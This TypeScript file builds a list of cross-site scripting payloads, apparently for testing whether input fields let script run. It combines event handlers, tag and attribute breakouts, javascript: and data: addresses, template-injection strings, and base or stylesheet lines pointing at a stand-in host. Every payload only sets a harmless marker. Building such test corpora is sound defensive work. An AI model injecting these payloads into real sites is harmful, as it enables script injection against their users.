/** Script in the clothes of words: what somebody would put into every field, to have it run in a reader's browser. */

const CALL = "window.__ran=1";
const b64 = Buffer.from(CALL).toString("base64");

const HANDLERS = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onbegin",
];
const ELEMENTS: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}=${CALL}>`,
  (handler) => `<svg ${handler}=${CALL}>`,
  (handler) => `<body ${handler}=${CALL}>`,
  (handler) => `<details open ${handler}=${CALL}>x</details>`,
  (handler) => `<input autofocus ${handler}=${CALL}>`,
  (handler) => `"><a href=# ${handler}=${CALL}>x</a>`,
  (handler) => `' ${handler}='${CALL}' x='`,
  (handler) => `" autofocus ${handler}="${CALL}" x="`,
];

const OTHERS = [
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `<!--><script>${CALL}</script>-->`,
  `]]><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<SCRIPT SRC=data:text/javascript;base64,${b64}></SCRIPT>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<object data="javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<base href="//elsewhere.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href="//elsewhere.example/x.css">`,
  `<style>@import "//elsewhere.example/x.css";</style>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `\u2028${CALL}//`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `\u202e<script>${CALL}</script>`,
];

/** Dangerous where they are a whole address. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
];

const AMONG_WORDS = [...ELEMENTS.flatMap((element) => HANDLERS.map(element)), ...OTHERS];

export const PAYLOADS: readonly string[] = [...AMONG_WORDS, ...ADDRESSES];

/** Twelve that can stand among words make one text: each goes everywhere, in fewer pages. */
const TOGETHER = 12;

/** All of them in as few texts as may be. */
export const PAYLOAD_TEXTS: readonly string[] = [
  ...Array.from({ length: Math.ceil(AMONG_WORDS.length / TOGETHER) }, (_, n) =>
    AMONG_WORDS.slice(n * TOGETHER, (n + 1) * TOGETHER).join(" "),
  ),
  ...ADDRESSES,
];
